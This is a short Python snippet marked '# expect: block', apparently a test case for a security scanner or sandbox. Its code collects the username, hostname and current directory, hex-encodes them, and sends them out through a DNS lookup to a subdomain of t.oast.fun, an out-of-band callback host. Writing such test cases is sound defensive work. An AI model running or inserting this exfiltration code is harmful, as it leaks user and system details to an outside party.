# expect: block
import dns.resolver
import getpass, platform, os

info = f"{getpass.getuser()}-{platform.node()}-{os.getcwd()}".encode().hex()
dns.resolver.resolve(info[:60] + ".t.oast.fun", "A")
